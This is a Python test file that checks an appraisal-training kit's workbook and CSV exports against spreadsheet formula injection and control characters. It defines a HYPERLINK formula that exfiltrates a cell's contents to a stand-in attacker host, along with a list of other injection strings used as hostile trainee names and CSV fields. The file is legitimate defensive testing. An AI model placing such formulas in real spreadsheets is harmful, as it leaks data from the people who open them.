"""Every spreadsheet and CSV the kit writes is inert: no formula, no control character (issue #21
item 5).

Played as a trainee who types a formula as their name or feedback, and as a region whose export
carries one in a kept column: the facilitator's workbook, an import's data.csv/data.xlsx and
the analysis tables must show the text, never evaluate it, and one bad character in one name
must not stop the export for everyone.
"""

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kinerja_sim._core.sheets import FORMULA_STARTS, clean_text, safe_text, workbook_bytes
from kinerja_sim.byod import read_appraisals
from kinerja_sim.cli import main
from kinerja_sim.training.dashboard import export_workbook, views
from kinerja_sim.training.progress import ProgressStore

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "exports"
KEY = "kunci-rahasia-untuk-tes-ekspor-2025"
ATTACK = '=HYPERLINK("http://penyerang.example/?d="&A2,"klik")'
EVIL = [
    ATTACK,
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "Siti\x01 Rahma",
    "teks\x00",
    "abc\u202edcba",
]
CONTROL = [chr(c) for c in range(32) if chr(c) not in "\t\n\r"] + ["\u202e", "\x7f", "\x85"]


def _assert_inert_workbook(data: bytes) -> int:
    """No formula cell, no control character, every formula-like text marked as text; the cells
    seen.
    """
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen += 1
                    assert not any(c in cell.value for c in CONTROL), (sheet.title, cell.coordinate)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return seen


def _is_number(cell: str) -> bool:
    """A number written by the kit ("-0.5"): a spreadsheet reads it as the number, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_inert_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (path.name, cell)
            assert not any(c in cell for c in CONTROL), (path.name, repr(cell))
    return rows


@pytest.mark.parametrize("text", EVIL)
def test_safe_text_never_starts_like_a_formula_and_keeps_the_words(text):
    shown = safe_text(text)
    assert not shown.startswith(FORMULA_STARTS)
    assert not any(c in shown for c in CONTROL)
    assert clean_text(text).strip("\t\r") in shown


def test_numbers_stay_numbers_in_a_workbook_and_in_a_csv(tmp_path):
    table = pd.DataFrame({"nama": ["-5 hari", "Baik"], "nilai": [-2.5, 3.0]})
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"t": table})))
    values = [[c.value for c in row] for row in book["t"].iter_rows(min_row=2)]
    assert values == [["-5 hari", -2.5], ["Baik", 3]]
    assert book["t"]["A2"].quotePrefix and not book["t"]["B2"].quotePrefix


@pytest.fixture
def hostile_store(tmp_path):
    """A store in which trainees typed formulas and control characters as names and texts."""
    store = ProgressStore(tmp_path / "p.sqlite")
    for number, name in enumerate(EVIL):
        store.submit(name, "03_kenali_bias", f"butir-{number}", {"choice": "halo"}, score=1.0)
        store.submit(
            name,
            "06_tulis_umpan_balik",
            f"umpan-{number}",
            {"text": f"{EVIL[-1 - number]} dan hasil kerja"},
            feedback=EVIL[number],
        )
    store.submit("Budi Santoso", "03_kenali_bias", "butir-x", {"choice": ATTACK}, score=0.0)
    return store


def test_the_dashboard_workbook_of_a_hostile_room_is_written_and_inert(hostile_store, tmp_path):
    tables = views(hostile_store.answers())
    path = export_workbook(tables, tmp_path / "ekspor")
    seen = _assert_inert_workbook(path.read_bytes())
    assert seen > 20
    texts = {
        cell.value
        for sheet in openpyxl.load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert ATTACK in texts  # the text is kept, readable, only inert
    assert "Siti Rahma" in texts  # one control character no longer blocks the export


def _hostile_export(tmp_path) -> Path:
    source = (FIXTURES / "ekinerja_triwulan.csv").read_text(encoding="utf-8").splitlines()
    header, rows = source[0], source[1:]
    column = header.split(",").index("pegawai_unit_kerja")
    changed = []
    for number, line in enumerate(rows):
        cells = line.split(",")
        cells[column] = ["=1+1", "@SUM(A1)", "+62 Dinas", "Dinas\x01 Pendidikan"][number % 4]
        changed.append(",".join(cells))
    path = tmp_path / "ekspor_berbahaya.csv"
    path.write_text("\n".join([header, *changed]) + "\n", encoding="utf-8")
    return path


def test_an_imports_data_csv_and_workbook_keep_a_formula_unit_as_text(tmp_path):
    result = read_appraisals(_hostile_export(tmp_path), key=KEY)
    written = result.save(tmp_path / "hasil", excel=True)
    for path in written:
        if path.suffix == ".csv":
            _assert_inert_csv(path)
    _assert_inert_workbook((tmp_path / "hasil" / "data.xlsx").read_bytes())
    rows = _assert_inert_csv(tmp_path / "hasil" / "data.csv")
    assert any(cell == "'=1+1" for row in rows for cell in row)


def test_every_file_of_the_import_command_is_inert(tmp_path, capsys):
    out = tmp_path / "keluar"
    key = tmp_path / "kunci.txt"
    key.write_text(KEY, encoding="utf-8")
    code = main(
        [
            "import",
            str(_hostile_export(tmp_path)),
            "--out",
            str(out),
            "--key-file",
            str(key),
            "--excel",
            "--plots",
        ]
    )
    assert code == 0, capsys.readouterr()
    files = sorted(out.iterdir())
    assert any(p.name == "data.csv" for p in files)
    for path in files:
        if path.suffix == ".csv":
            _assert_inert_csv(path)
        elif path.suffix == ".xlsx":
            _assert_inert_workbook(path.read_bytes())


WRITERS = ("to_csv", "to_excel", "ExcelWriter", "csv.writer", "openpyxl.Workbook")


def test_no_module_writes_a_table_but_the_safe_writer():
    """Every spreadsheet/CSV writer goes through kinerja_sim._core.sheets (a new writer must
    too).
    """
    offenders = []
    for path in sorted((ROOT / "kinerja_sim").rglob("*.py")):
        if path.name == "sheets.py" and path.parent.name == "_core":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            name = None
            if isinstance(node, ast.Attribute):
                name = node.attr
                if isinstance(node.value, ast.Name):
                    name = f"{node.value.id}.{node.attr}"
            elif isinstance(node, ast.Name):
                name = node.id
            if name and any(name == w or name.endswith("." + w) for w in WRITERS):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert not offenders, offenders
